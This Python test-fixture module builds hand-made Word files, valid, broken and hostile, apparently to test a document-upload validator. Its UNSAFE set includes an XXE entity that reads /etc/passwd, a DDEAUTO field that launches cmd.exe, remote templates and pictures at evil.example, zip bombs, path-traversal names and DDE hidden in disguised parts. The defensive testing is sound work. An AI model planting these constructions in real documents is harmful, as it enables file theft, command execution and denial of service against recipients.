"""Word files made by hand: a small good one, and all the ways in which one can be hostile or broken."""

from __future__ import annotations

import io
import warnings
import zipfile
import zlib
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MC = "http://schemas.openxmlformats.org/markup-compatibility/2006"
STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"
MAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
STORY_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.{}+xml"

HYPERLINK = "https://www.nacc.go.th/ita?a=1&b=2"


def document(body: str) -> bytes:
    """A main part with the markup ``body`` before its section properties."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<w:document xmlns:w="{W}" xmlns:r="{R}" xmlns:mc="{MC}">'
        f"<w:body>{body}<w:sectPr/></w:body></w:document>"
    ).encode()


def paragraph(*texts: str) -> str:
    """A paragraph with a run for each text."""
    runs = "".join(f'<w:r><w:t xml:space="preserve">{text}</w:t></w:r>' for text in texts)
    return f"<w:p>{runs}</w:p>"


def good_parts(body: str = paragraph("รายงาน"), **stories: str) -> dict[str, bytes]:
    """The parts of a whole Word file; ``header="…"``, ``footer="…"`` add such a story with that markup."""
    kinds = [f'<Override PartName="/word/document.xml" ContentType="{MAIN_TYPE}"/>']
    ties, references, parts = [], [], {}
    for kind, markup in stories.items():
        kinds.append(f'<Override PartName="/word/{kind}1.xml" ContentType="{STORY_TYPE.format(kind)}"/>')
        ties.append((f"r{kind}", f"{R}/{kind}", f"{kind}1.xml", ""))
        references.append(f'<w:{kind}Reference w:type="default" r:id="r{kind}"/>')
        tag = {"header": "hdr", "footer": "ftr"}[kind]
        parts[f"word/{kind}1.xml"] = f'<w:{tag} xmlns:w="{W}" xmlns:r="{R}">{markup}</w:{tag}>'.encode()
    main = document(body).replace(b"<w:sectPr/>", f"<w:sectPr>{''.join(references)}</w:sectPr>".encode())
    parts |= {
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Default Extension="xml" ContentType="application/xml"/>{"".join(kinds)}</Types>'
        ).encode(),
        "_rels/.rels": rels(("rId1", f"{R}/officeDocument", "word/document.xml", "")),
        "word/document.xml": main,
    }
    if ties:
        parts["word/_rels/document.xml.rels"] = rels(*ties)
    return parts


def rels(*ties: tuple[str, str, str, str]) -> bytes:
    """A part of relationships, each (id, type, target, "" or "External")."""
    lines = []
    for key, kind, target, mode in ties:
        mode_attribute = f' TargetMode="{mode}"' if mode else ""
        escaped = target.replace("&", "&amp;")
        lines.append(f'<Relationship Id="{key}" Type="{kind}" Target="{escaped}"{mode_attribute}/>')
    namespace = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<Relationships xmlns="{namespace}">{"".join(lines)}</Relationships>'.encode()


def zipped(parts: Mapping[str, bytes] | list[tuple[str, bytes]], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    """The zip of parts, also of several with one name."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive, warnings.catch_warnings(action="ignore"):
        for name, data in parts.items() if isinstance(parts, dict) else parts:
            member = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
            member.compress_type = packing
            archive.writestr(member, data)
    return file.getvalue()


def good_file(body: str = paragraph("รายงาน"), **stories: str) -> bytes:
    """A whole Word file, as ``good_parts``."""
    return zipped(good_parts(body, **stories))


def field(instruction: str, result: str = "ผล") -> str:
    """A paragraph with a complex field, its instruction over two runs as Word likes to split it."""
    half = len(instruction) // 2
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{instruction[:half]}</w:instrText></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{instruction[half:]}</w:instrText></w:r>'
        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def with_part(name: str, data: bytes, parts: Mapping[str, bytes] | None = None) -> dict[str, bytes]:
    """The good parts and one more."""
    return {**(parts or good_parts()), name: data}


def with_tie(kind: str, target: str, mode: str = "External", source: str = "word/document.xml") -> dict[str, bytes]:
    """The good parts with a relationship of ``kind`` (the last word of its type) from ``source``."""
    folder, _, name = source.rpartition("/")
    return with_part(f"{folder}/_rels/{name}.rels", rels(("rId9", f"{R}/{kind}", target, mode)))


def with_type(part: str, kind: str, data: bytes = b"x") -> dict[str, bytes]:
    """The good parts and one more of the content type ``kind``."""
    parts = with_part(part, data)
    override = f'<Override PartName="/{part}" ContentType="{kind}"/></Types>'
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", override.encode())
    return parts


def with_main_type(kind: str) -> dict[str, bytes]:
    """The good parts, the main one of another content type."""
    parts = good_parts()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(MAIN_TYPE.encode(), kind.encode())
    return parts


def xxe(encoding: str = "utf-8") -> bytes:
    """A file whose main part reads a file of the computer it is opened on."""
    text = document(paragraph("&xxe;")).decode().replace('encoding="UTF-8"', f'encoding="{encoding}"')
    declared = text.replace("<w:document", '<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<w:document', 1)
    return zipped(with_part("word/document.xml", declared.encode(encoding)))


def bomb(inflated: int, name: str = "word/media/image1.png") -> bytes:
    """A file of a thousandth of ``inflated`` bytes."""
    return zipped(with_part(name, bytes(inflated)))


def liar(inflated: int) -> bytes:
    """A bomb that says of itself, in both of the zip's lists, that its part has ten bytes."""
    data = bytearray(bomb(inflated, "word/zzz.bin"))
    honest = inflated.to_bytes(4, "little")
    while (at := data.find(honest)) >= 0:
        data[at : at + 4] = (10).to_bytes(4, "little")
    return bytes(data)


def deep(depth: int) -> bytes:
    """A file whose main part is ``depth`` elements deep."""
    return good_file("<w:p>" * depth + "</w:p>" * depth)


def disguised(name: str, kind: str, data: bytes, tied: str = "header", target: str = "") -> dict[str, bytes]:
    """The good parts and one that a relationship makes a header, whatever its ``name`` and its type ``kind`` say."""
    parts = with_type(f"word/{name}", kind, data)
    return {
        **with_tie(tied, target or name, ""),
        **{each: parts[each] for each in ("[Content_Types].xml", f"word/{name}")},
    }


def long_namespace(letters: int, names: int = 2000, encoding: str = "utf-8") -> bytes:
    """A file of few bytes with so many names in a namespace of so many characters."""
    elements = "".join(f"<a:e{number}/>" for number in range(names))
    xml = f'<?xml version="1.0" encoding="{encoding}"?><a:r xmlns:a = \'{"ก" * letters}\'>{elements}</a:r>'
    return zipped(with_part("customXml/item9.xml", xml.encode(encoding)))


def with_pane(parts: Mapping[str, bytes] | None = None) -> bytes:
    """A file that was saved while an add-in's pane was open."""
    saved = dict(parts or good_parts())
    tie = '<Relationship Id="rIdWE" Type="http://schemas.microsoft.com/office/2011/relationships/{}" Target="{}"/>'
    pane = tie.format("webextensiontaskpanes", "word/webextensions/taskpanes.xml")
    saved["_rels/.rels"] = saved["_rels/.rels"].replace(b"</Relationships>", f"{pane}</Relationships>".encode())
    saved["word/webextensions/taskpanes.xml"] = b"<taskpanes/>"
    saved["word/webextensions/_rels/taskpanes.xml.rels"] = rels().replace(
        b"</Relationships>", f"{tie.format('webextension', 'webextension1.xml')}</Relationships>".encode()
    )
    saved["word/webextensions/webextension1.xml"] = b"<webextension/>"
    types = "".join(
        f'<Override PartName="/word/webextensions/{name}.xml" ContentType="application/vnd.ms-office.{kind}+xml"/>'
        for name, kind in (("taskpanes", "webextensiontaskpanes"), ("webextension1", "webextension"))
    )
    saved["[Content_Types].xml"] = saved["[Content_Types].xml"].replace(b"</Types>", f"{types}</Types>".encode())
    return zipped(saved)


def encrypted_member() -> bytes:
    """A zip whose members carry the flag of a password."""
    data = bytearray(good_file())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := data.find(signature, at + 1)) >= 0:
            data[at + offset] |= 1
    return bytes(data)


def ole(*streams: str) -> bytes:
    """The head of an OLE file with the names of its streams."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"".join(name.encode("utf-16-le") for name in streams)


NOT_WORD: dict[str, Callable[[], bytes]] = {
    "empty": lambda: b"",
    "only NUL bytes": lambda: bytes(4096),
    "old .doc": lambda: ole("Root Entry", "WordDocument"),
    "password": lambda: ole("Root Entry", "EncryptionInfo", "EncryptedPackage"),
    "old .xls": lambda: ole("Root Entry", "Workbook"),
    "PDF": lambda: b"%PDF-1.7\n",
    "RTF": lambda: b"{\\rtf1\\ansi}",
    "web page": lambda: b"\xef\xbb\xbf\n<!DOCTYPE html><html>",
    "XML": lambda: b'<?xml version="1.0"?><a/>',
    "PNG": lambda: b"\x89PNG\r\n\x1a\n",
    "text": "รายงาน".encode,
    "truncated": lambda: good_file()[:-30],
    "half": lambda: good_file()[:400],
    "zip of something": lambda: zipped({"a.txt": b"a"}),
    "OpenDocument": lambda: zipped({"mimetype": b"application/vnd.oasis.opendocument.text"}),
    "Excel": lambda: zipped(
        with_main_type("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")
    ),
    "PowerPoint": lambda: zipped(
        with_main_type("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml")
    ),
    ".dotx": lambda: zipped(
        with_main_type("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml")
    ),
    "no main part": lambda: zipped({**good_parts(), "_rels/.rels": rels()}),
    "password of the zip": encrypted_member,
    "an unusual packing": lambda: zipped(good_parts(), zipfile.ZIP_BZIP2),
    "a part larger than it says": lambda: liar(60 << 20),
    "malformed part": lambda: zipped(with_part("word/document.xml", b"<w:document>")),
    "malformed header of another name": lambda: zipped(
        disguised("header1.bin", "application/octet-stream", b"<w:hdr>")
    ),
    "empty styles of another name": lambda: zipped(disguised("a.bin", "application/octet-stream", b"", "styles")),
    "malformed relationships that call themselves a picture": lambda: zipped(
        with_type("customXml/_rels/item1.xml.rels", "image/png", b"<Relationships>")
    ),
    "malformed content types": lambda: zipped(with_part("[Content_Types].xml", b"<Types")),
    "wrong checksum": lambda: good_file().replace(
        zlib.crc32(good_parts()["word/document.xml"]).to_bytes(4, "little"), b"abcd"
    ),
    "EBCDIC": lambda: xxe("cp037"),
    "UTF-7": lambda: xxe("utf-7"),
}
"""Files that are no readable Word document, by what they are."""

UNSAFE: dict[str, Callable[[], bytes]] = {
    "macros": lambda: zipped(with_part("word/vbaProject.bin", ole("VBA"))),
    ".docm": lambda: zipped(with_main_type("application/vnd.ms-word.document.macroEnabled.main+xml")),
    "macros by type": lambda: zipped(with_type("word/x.bin", "application/vnd.ms-office.vbaProject")),
    "macros by tie": lambda: zipped({**with_tie("vbaProject", "x.bin", ""), "word/x.bin": b"x"}),
    "ActiveX": lambda: zipped(with_part("word/activeX/activeX1.xml", b"<ax/>")),
    "OLE object": lambda: zipped(with_part("word/embeddings/oleObject1.bin", b"MZ")),
    "OLE object that calls itself a sheet": lambda: zipped(with_part("word/embeddings/a.xlsx", b"MZ")),
    "OLE object by its bytes": lambda: zipped(with_part("word/media/image1.png", ole("x"))),
    "altChunk": lambda: zipped({**with_tie("aFChunk", "x.htm", ""), "word/x.htm": b"<p>"}),
    "ribbon": lambda: zipped(
        {**with_tie("ui/extensibility", "/customUI/customUI.xml", ""), "customUI/customUI.xml": b"<u/>"}
    ),
    "remote template": lambda: zipped(
        with_tie("attachedTemplate", "http://evil.example/evil.dotm", source="word/settings.xml")
    ),
    "remote picture": lambda: zipped(with_tie("image", "https://evil.example/a.png")),
    "remote picture by a part in capitals": lambda: zipped(
        with_part("word/_rels/document.xml.RELS", rels(("rId1", f"{R}/image", "http://evil.example/a", "External")))
    ),
    "remote part that says it is internal": lambda: zipped(with_tie("image", "https://evil.example/a.png", "")),
    "DDE field": lambda: good_file(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
    "DDE field without an end": lambda: good_file(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>dde a b</w:instrText></w:r></w:p>'
    ),
    "DDE in one element": lambda: good_file('<w:p><w:fldSimple w:instr="DDE excel a"/></w:p>'),
    "DDE in a header": lambda: good_file(header=field("DDEAUTO a b")),
    "DDE in a header of another name": lambda: zipped(
        disguised("header9.bin", "application/octet-stream", document(field("DDEAUTO a b")))
    ),
    "DDE in a header found without case": lambda: zipped(
        disguised("header9.bin", "a/b", document(field("DDEAUTO a b")), target="HEADER%39.bin")
    ),
    "DDE in a header that calls itself a picture": lambda: zipped(
        disguised("header9.xml", "image/png", document(field("DDEAUTO a b")))
    ),
    "DDE in a part whose type is in capitals": lambda: zipped(
        with_type("word/a.bin", " Application/X.Header+XML ; charset=utf-8", document(field("DDEAUTO a b")))
    ),
    "ribbon in the text": lambda: zipped({**with_tie("ui/extensibility", "x.xml", ""), "word/x.xml": b"<x/>"}),
    "packed program as OLE object": lambda: zipped(with_part("word/embeddings/oleObject1.bin", ole("\x01Ole10Native"))),
    "namespace that multiplies": lambda: long_namespace(400),
    "namespace that multiplies in UTF-16": lambda: long_namespace(1000, encoding="utf-16"),
    "many parts that are large together": lambda: zipped(
        {**good_parts(), **{f"word/a{number}.xml": b"<a>" + b"<b/>" * 200_000 + b"</a>" for number in range(13)}}
    ),
    "DDE in a part in UTF-16": lambda: zipped(
        with_part("word/header9.xml", document(field("DDE a b")).decode().replace("UTF-8", "UTF-16").encode("utf-16"))
    ),
    "DDE in another field": lambda: good_file(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF 1 = 1 </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO a b</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
    "a field spelt by a field": lambda: good_file(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> a b</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
    "remote INCLUDE field": lambda: good_file(field('INCLUDEPICTURE "http://evil.example/a.png" \\d')),
    "DOCTYPE": xxe,
    "DOCTYPE in UTF-16": lambda: xxe("utf-16"),
    "DOCTYPE in a custom part": lambda: zipped(with_part("customXml/item1.xml", b"<!DOCTYPE a><a/>")),
    "DOCTYPE in the content types": lambda: zipped(
        with_part("[Content_Types].xml", b"<!DOCTYPE a>" + good_parts()["[Content_Types].xml"])
    ),
    "double member": lambda: zipped([*good_parts().items(), ("word/document.xml", document(paragraph("อื่น")))]),
    "double member in other letters": lambda: zipped([*good_parts().items(), ("Word/Document.xml", b"<a/>")]),
    "traversal": lambda: zipped(with_part("../../evil.txt", b"x")),
    "absolute name": lambda: zipped(with_part("/etc/evil", b"x")),
    "Windows name": lambda: zipped(with_part("c:\\evil", b"x")),
    "too many members": lambda: zipped({**good_parts(), **{f"a{number}.bin": b"" for number in range(2000)}}),
    "large part": lambda: bomb(60 << 20),
    "large in sum": lambda: zipped({**good_parts(), **{f"a{number}.bin": bytes(40 << 20) for number in range(3)}}),
    "dense part": lambda: bomb(5 << 20, "word/styles.xml"),
    "deep nesting": lambda: deep(300),
    "too many attributes": lambda: zipped(good_parts("<w:p " + " ".join(f"a{n}='1'" for n in range(501)) + "/>")),
    "too many elements": lambda: zipped(good_parts("<w:p/>" * 2_000_001), zipfile.ZIP_STORED),
    "one huge text": lambda: zipped(good_parts(paragraph("ก" * 3_100_000)), zipfile.ZIP_STORED),
}
"""Word files that hold what must not be opened, by what it is."""

LOCAL: dict[str, Callable[[], bytes]] = {
    "template of the author's computer": lambda: zipped(
        with_tie("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm", source="word/settings.xml")
    ),
    "linked picture": lambda: zipped(with_tie("image", "file:///D:/ภาพ.png")),
    "linked file without a scheme": lambda: zipped(with_tie("image", "../ภาพ.png")),
    "link to a file": lambda: zipped(with_tie("hyperlink", "file:///C:/x.docx")),
    "link that runs a script": lambda: zipped(with_tie("hyperlink", "javascript:alert(1)")),
    "link in a field": lambda: good_file(field('HYPERLINK "file:///C:/x.docx"')),
    "INCLUDE field": lambda: good_file(field("INCLUDETEXT C:\\\\a.docx")),
    "LINK field": lambda: good_file(field("LINK Excel.Sheet.12 C:\\\\a.xlsx A1")),
    "sheet behind a chart": lambda: zipped(with_part("word/embeddings/Microsoft_Excel_Sheet1.xlsx", b"PK\x03\x04")),
    "equation": lambda: zipped(with_part("word/embeddings/oleObject1.bin", ole("Equation Native"))),
    "old sheet": lambda: zipped(with_part("word/embeddings/oleObject1.bin", ole("Workbook"))),
    "add-in in the text": lambda: zipped(
        {**with_tie("webextension", "ext/a.xml", ""), "word/ext/a.xml": b"<we:webextension xmlns:we='we'/>"}
    ),
    "DOCTYPE in a picture": lambda: zipped(with_type("word/media/a.svg", "image/svg+xml", b"<!DOCTYPE svg><svg/>")),
}
"""What ordinary documents have and templates must not."""

FINE: dict[str, Callable[[], bytes]] = {
    "web link": lambda: zipped(with_tie("hyperlink", HYPERLINK)),
    "mail link": lambda: zipped(with_tie("hyperlink", "mailto:a@b.go.th")),
    "link in a field": lambda: good_file(field(f'HYPERLINK "{HYPERLINK.partition("?")[0]}"')),
    "bookmark link in a field": lambda: good_file(field('HYPERLINK \\l "_Toc1"')),
    "page field": lambda: good_file(footer=field(" PAGE \\* THAIARABIC ")),
    "word of a field in the text": lambda: good_file(paragraph("DDEAUTO INCLUDETEXT instrText")),
    "thumbnail": lambda: zipped(with_part("docProps/thumbnail.jpeg", b"\xff\xd8\xff")),
    "white bitmap": lambda: bomb(5 << 20, "word/media/image1.bmp"),
    "part in UTF-16": lambda: zipped(
        with_part("customXml/item1.xml", "<?xml version='1.0' encoding='UTF-16'?><ก/>".encode("utf-16"))
    ),
    "pane of an add-in": with_pane,
    "long namespace": lambda: long_namespace(300),
    "folders": lambda: zipped([("word/", b""), *good_parts().items()]),
    "strict form of the standard": lambda: zipped(
        {
            name: data.replace(b"http://schemas.openxmlformats.org/wordprocessingml/2006/main", STRICT.encode())
            for name, data in good_parts().items()
        }
    ),
}
"""Word files that must be read."""
